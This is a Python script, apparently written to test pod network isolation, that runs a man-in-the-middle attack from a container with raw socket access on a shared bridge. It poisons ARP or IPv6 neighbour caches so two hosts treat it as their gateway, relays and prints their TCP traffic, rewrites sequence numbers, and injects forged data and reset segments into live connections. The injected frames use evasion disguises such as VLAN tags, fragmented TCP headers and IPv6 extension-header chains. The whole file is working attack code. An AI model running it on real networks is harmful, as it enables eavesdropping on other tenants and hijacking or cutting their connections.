"""What a pod with NET_RAW can do on the bridge that pods share: it steps between two others, reads what passes, and
writes into their connections.

  wire.py 4|6 SECONDS PORT GATEWAY A B [shift N]

It makes A and B take it for their gateway, by ARP or neighbour discovery, and passes on what they send. Of each TCP packet
that it sees it prints a line: `saw FLAGS LENGTH FROM`. When it knows a connection's sequence numbers it writes into it,
in both directions, in every disguise that it knows. With `shift` it moves the client's sequence numbers by so much.
"""
import random, select, socket, struct, sys, time

ALL = 3
IP4, IP6 = b"\x08\x00", b"\x86\xdd"
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
WORD = b"INJECTED"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Wire:
    def __init__(self, family, gateway, ends, port):
        self.v6 = family == 6
        self.kind = IP6 if self.v6 else IP4
        self.packed = lambda text: socket.inet_pton(socket.AF_INET6 if self.v6 else socket.AF_INET, text)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
        self.socket.bind(("eth0", ALL))
        self.own = self.socket.getsockname()[4]
        self.port = port
        self.gateway = self.packed(gateway)
        self.ends = [self.packed(end) for end in ends]
        self.macs = {}
        wanted, end = {self.gateway, *self.ends}, time.time() + 5
        while wanted - self.macs.keys() and time.time() < end:
            self.solicit(wanted - self.macs.keys())
            for frame in self.frames(0.2):
                self.learn(frame)
        if wanted - self.macs.keys():
            raise SystemExit("not all are on this bridge")

    def frames(self, seconds):
        end = time.time() + seconds
        while (left := end - time.time()) > 0:
            if not select.select([self.socket], [], [], left)[0]:
                return
            frame, about = self.socket.recvfrom(65535)
            if about[2] != 4:  # PACKET_OUTGOING
                yield frame

    def send(self, to, kind, body):
        try:
            self.socket.send(to + self.own + kind + body)
        except OSError:
            pass  # longer than the link takes, as no segment on a real wire is

    # Neighbours: who has which hardware address.
    def own_address(self):
        with socket.socket(socket.AF_INET6 if self.v6 else socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((socket.inet_ntop(probe.family, self.gateway), 9))
            return self.packed(probe.getsockname()[0])

    def solicit(self, hosts):
        me = self.own_address()
        for host in hosts:
            if self.v6:
                body = struct.pack("!BBHI", 135, 0, 0, 0) + host + b"\1\1" + self.own
                self.neighbour(b"\xff" * 6, me, host, body)
            else:
                self.arp(1, b"\xff" * 6, me, self.own, host, b"\0" * 6)

    def learn(self, frame):
        if not self.v6 and frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2":
            self.macs[frame[28:32]] = frame[22:28]
        if self.v6 and frame[12:14] == IP6 and frame[20] == 58 and frame[54] == 136:
            self.macs[frame[62:78]] = frame[6:12]

    def arp(self, operation, to, sender, sender_mac, target, target_mac):
        head = struct.pack("!HHBBH", 1, 0x800, 6, 4, operation)
        self.send(to, b"\x08\x06", head + sender_mac + sender + target_mac + target)

    def neighbour(self, to, source, target, body):
        length = struct.pack("!II", len(body), 58)
        whole = body[:2] + struct.pack("!H", checksum(source + target + length + body)) + body[4:]
        self.send(to, IP6, struct.pack("!IHBB", 6 << 28, len(whole), 58, 255) + source + target + whole)

    def claim(self, mac):
        """Tells both ends who their gateway is."""
        for end in self.ends:
            if self.v6:
                body = struct.pack("!BBHI", 136, 0, 0, 0xA0000000) + self.gateway + b"\2\1" + mac
                self.neighbour(self.macs[end], self.gateway, end, body)
            else:
                self.arp(2, self.macs[end], self.gateway, mac, end, self.macs[end])

    # Packets.
    def split(self, frame):
        """Source, destination, TCP segment, if it is one of the two ends'."""
        if frame[12:14] != self.kind:
            return None
        ip = frame[14:]
        if self.v6:
            length = struct.unpack("!H", ip[4:6])[0]
            proto, source, target, segment = ip[6], ip[8:24], ip[24:40], ip[40 : 40 + length]
        else:
            head, total = (ip[0] & 15) * 4, struct.unpack("!H", ip[2:4])[0]
            proto, source, target, segment = ip[9], ip[12:16], ip[16:20], ip[head:total]
        known = proto == 6 and source in self.ends and target in self.ends and len(segment) >= 20
        return (source, target, segment) if known else None

    def sealed(self, source, target, segment):
        length = struct.pack("!II", len(segment), 6) if self.v6 else struct.pack("!BBH", 0, 6, len(segment))
        segment = segment[:16] + b"\0\0" + segment[18:]
        return segment[:16] + struct.pack("!H", checksum(source + target + length + segment)) + segment[18:]

    def packet(self, source, target, payload, proto=6, fragment=0):
        if self.v6:
            return struct.pack("!IHBB", 6 << 28, len(payload), proto, 64) + source + target + payload
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), self.ident, fragment, 64, proto, 0)
        head += source + target
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload

    def disguises(self, source, target, segment):
        """Frames (kind and body) that all carry one segment."""
        self.ident = random.randrange(65536)
        segment = self.sealed(source, target, segment)
        plain = self.packet(source, target, segment)
        yield "plain", [(self.kind, plain)]
        yield "tagged", [(b"\x81\0", b"\0\0" + self.kind + plain)]
        yield "twice", [(b"\x88\xa8", b"\0\0\x81\0\0\0" + self.kind + plain)]
        yield "twice8100", [(b"\x81\0", b"\0\0\x81\0\0\0" + self.kind + plain)]
        if not self.v6:
            # The header is split, so that no fragment shows the flags.
            pieces = [(self.kind, self.packet(source, target, segment[:8], 6, 0x2000))]
            pieces += [(self.kind, self.packet(source, target, segment[8:], 6, 1))]
            yield "fragments", pieces
            options = bytearray(self.packet(source, target, b"\1\1\1\0" + segment))
            options[0], options[10:12] = 0x46, b"\0\0"
            options[10:12] = struct.pack("!H", checksum(bytes(options[:24])))
            yield "options", [(self.kind, bytes(options))]
            return
        for count in [1, 6, 7, 8]:
            chain = b"".join(bytes([6 if last else 60]) + b"\0\1\4\0\0\0\0" for last in [False] * (count - 1) + [True])
            yield f"options{count}", [(self.kind, self.packet(source, target, chain + segment, 60))]
        atomic = b"\x06\0\0\0" + struct.pack("!I", self.ident)
        yield "atomic", [(self.kind, self.packet(source, target, atomic + segment, 44))]
        pieces = []
        for offset, piece in [(1, segment[:8]), (8, segment[8:])]:
            pieces.append((self.kind, self.packet(source, target, struct.pack("!BBHI", 6, 0, offset, self.ident) + piece, 44)))
        yield "fragments", pieces


def main(family, seconds, port, gateway, a, b, how="", much="0"):
    wire = Wire(int(family), gateway, [a, b], int(port))
    shift, following = int(much) if how == "shift" else 0, {}
    end, claimed, wrote = time.time() + float(seconds), 0, 0
    print("there", flush=True)
    while time.time() < end:
        if time.time() - claimed > 0.2:
            wire.claim(wire.own)
            claimed = time.time()
        for frame in wire.frames(0.05):
            if not (found := wire.split(frame)) or frame[:6] != wire.own:
                if frame[:6] == wire.own and frame[12:14] == wire.kind:
                    pass_on(wire, frame)
                continue
            source, target, segment = found
            ports, (seq, ack), flags = struct.unpack("!HH", segment[:4]), struct.unpack("!II", segment[4:12]), segment[13]
            length = len(segment) - (segment[12] >> 4) * 4
            if wire.port in ports:
                name = "".join(n for bit, n in [(SYN, "S"), (ACK, "A"), (FIN, "F"), (RST, "R")] if flags & bit)
                payload = segment[(segment[12] >> 4) * 4 :]
                print("saw", name, length, ports[0], payload[:60], flush=True)
                ends = bool(flags & SYN) + bool(flags & FIN)
                following[(source, target, ports)] = (seq + length + ends) & 0xFFFFFFFF
                if shift and ports[1] == wire.port:
                    segment = segment[:4] + struct.pack("!I", (seq + shift) & 0xFFFFFFFF) + segment[8:]
                elif shift and flags & ACK:
                    segment = segment[:8] + struct.pack("!I", (ack - shift) & 0xFFFFFFFF) + segment[12:]
            wire.ident = random.randrange(65536)
            wire.send(wire.macs[target], wire.kind, wire.packet(source, target, wire.sealed(source, target, segment)))
            if time.time() - claimed > 0.2:
                break
        if not shift and time.time() - wrote > 0.1:
            write(wire, following)
            wrote = time.time()
    for _ in range(3):
        wire.claim(wire.macs[wire.gateway])


def pass_on(wire, frame):
    """What is no talk of the two, and was sent to their gateway."""
    source, target = (frame[22:38], frame[38:54]) if wire.v6 else (frame[26:30], frame[30:34])
    if source in wire.ends and target not in (wire.own_address(), wire.gateway):
        wire.send(wire.macs.get(target, wire.macs[wire.gateway]), wire.kind, frame[14:])


def write(wire, following):
    """Data and resets into each connection, as if it came from its other end: where its stream goes on as far as was seen, and
    at some places behind that, since of what is not seen the length is a guess."""
    for (source, target, ports), seq in following.items():
        other = following.get((target, source, ports[::-1]))
        if other is None:
            continue
        for ahead in [0, 5, 15, 16, 26, 36, 46]:
            for flags, payload in [(ACK | PSH, WORD), (RST | ACK, b"")]:
                if flags & RST and ahead:
                    continue
                place = (seq + ahead) & 0xFFFFFFFF
                head = struct.pack("!HHIIBBHHH", *ports, place, other, 5 << 4, flags, 65000, 0, 0)
                for _, frames in wire.disguises(source, target, head + payload):
                    for kind, body in frames:
                        wire.send(wire.macs[target], kind, body)


main(*sys.argv[1:])
